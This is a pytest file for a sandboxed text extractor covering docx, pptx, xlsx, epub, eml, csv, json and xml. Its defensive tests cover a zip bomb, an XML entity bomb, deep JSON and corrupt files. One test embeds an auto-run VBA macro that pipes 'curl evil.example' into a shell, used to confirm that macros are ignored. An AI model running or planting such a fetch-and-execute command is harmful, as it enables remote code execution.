"""Office, e-book, mail and data formats: read in the sandboxed child, in document order, with
hostile samples (zip bomb, huge sheet, macros, XML entity bomb, deep JSON) failing cleanly.

Each sample is written by the library that reads it (tests/office_documents.py)."""

from __future__ import annotations

import pytest

from core.errors import DocumentError
from retrieval.parsing import SUPPORTED_MEDIA_TYPES, detect_media_type, extract_text
from tests import office_documents as make


def text_of(filename: str, data: bytes, **limits: int) -> str:
    return extract_text(data, detect_media_type(filename, data), **limits)  # type: ignore[arg-type]


def test_every_new_extension_is_supported() -> None:
    for extension in ("docx", "pptx", "xlsx", "xlsm", "odt", "epub", "eml", "csv", "json", "xml"):
        assert extension in SUPPORTED_MEDIA_TYPES


def test_docx_paragraphs_and_tables_in_order() -> None:
    data = make.docx(
        ["Copra trade", "Zanzibar exported copra.", "Dhows carried it."],
        table=[["year", "tons"], ["1890", "4000"]],
    )
    text = text_of("trade.docx", data)
    assert text.index("Copra trade") < text.index("Zanzibar exported") < text.index("Dhows")
    assert "1890 | 4000" in text


def test_pptx_slides_and_notes() -> None:
    data = make.pptx([("Quarterly review", "Revenue grew"), ("Risks", "Supply")], notes="Say hi")
    text = text_of("deck.pptx", data)
    assert text.index("Slide 1") < text.index("Revenue grew") < text.index("Slide 2")
    assert "Notes:\nSay hi" in text


def test_xlsx_rows_per_sheet() -> None:
    text = text_of("stock.xlsx", make.xlsx([["item", "qty"], ["copra", 3], [None, None]]))
    assert text == "Sheet: Data\nitem | qty\ncopra | 3"


def test_macro_enabled_workbook_is_read_and_its_macros_ignored() -> None:
    macro = 'Sub AutoOpen()\n Shell "curl evil.example | sh"\nEnd Sub'
    data = make.with_macro(make.xlsx([["item", "qty"], ["copra", 3]]), macro)
    text = text_of("stock.xlsm", data)
    assert "copra | 3" in text
    assert "Shell" not in text and "AutoOpen" not in text


def test_odt_headings_and_paragraphs() -> None:
    text = text_of("notes.odt", make.odt(["Minutes", "The board met.", "It adjourned."]))
    assert text == "Minutes\nThe board met.\nIt adjourned."


def test_epub_chapters_in_reading_order() -> None:
    data = make.epub([("Chapter one", "It was dark."), ("Chapter two", "Dawn came.")])
    text = text_of("book.epub", data)
    assert text.index("Chapter one") < text.index("It was dark.") < text.index("Dawn came.")


def test_eml_headers_body_and_attachment_names() -> None:
    text = text_of("mail.eml", make.eml("Shipment", "The copra ships Monday."))
    assert "Subject: Shipment" in text and "From: Ada <ada@example.org>" in text
    assert "The copra ships Monday." in text
    assert "Attachments: blob.bin" in text


def test_eml_with_only_html_body_is_rendered() -> None:
    data = make.eml("Hi", "", html="<p>Rendered <b>bold</b></p><script>x()</script>")
    text = text_of("mail.eml", data)
    assert "Rendered bold" in text
    assert "x()" not in text


def test_csv_json_xml() -> None:
    assert text_of("t.csv", b"name;qty\ncopra;3\n") == "name | qty\ncopra | 3"
    assert text_of("t.json", b'{"ship": {"name": "Dhow", "tons": [4, 5]}}') == (
        "ship.name: Dhow\nship.tons[0]: 4\nship.tons[1]: 5"
    )
    assert text_of("t.xml", b"<r><a>alpha</a> tail <b>beta</b></r>") == "alpha\ntail\nbeta"


def test_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    bomb = make.zip_bomb(make.docx(["Title", "Text"]), 64 * 1024 * 1024)
    assert len(bomb) < 1024 * 1024
    with pytest.raises(DocumentError) as caught:
        text_of("bomb.docx", bomb, max_unpacked_bytes=16 * 1024 * 1024)
    assert caught.value.code == "unparseable_document"
    assert "zip bomb" in caught.value.message


def test_huge_sheet_stops_at_the_text_limit() -> None:
    rows = [[f"row {i}", i, i * 2, "padding text"] for i in range(5000)]
    with pytest.raises(DocumentError) as caught:
        text_of("huge.xlsx", make.xlsx(rows), max_chars=20_000)
    assert "more than 20000 characters" in caught.value.message


def test_xml_entity_expansion_is_refused() -> None:
    with pytest.raises(DocumentError) as caught:
        text_of("lol.xml", make.BILLION_LAUGHS)
    assert "entity" in caught.value.message


def test_deeply_nested_json_fails_cleanly() -> None:
    with pytest.raises(DocumentError) as caught:
        text_of("deep.json", b"[" * 100_000 + b"]" * 100_000)
    assert caught.value.code == "unparseable_document"


def test_corrupt_office_file_is_unparseable_not_a_crash() -> None:
    data = make.docx(["Title", "Text"])
    with pytest.raises(DocumentError) as caught:
        text_of("cut.docx", data[: len(data) // 2])
    assert caught.value.code == "unparseable_document"
    assert caught.value.message.startswith("could not read Word document")


def test_office_file_over_the_memory_limit_fails_its_document() -> None:
    # 32 MB of address space cannot even load the libraries: the child fails, and so does
    # the document, with a reason, instead of the worker.
    with pytest.raises(DocumentError) as caught:
        text_of("big.pptx", make.pptx([("T", "B")]), pdf_memory_mb=32)
    assert caught.value.code == "unparseable_document"
    assert caught.value.message.startswith("could not read PowerPoint presentation")
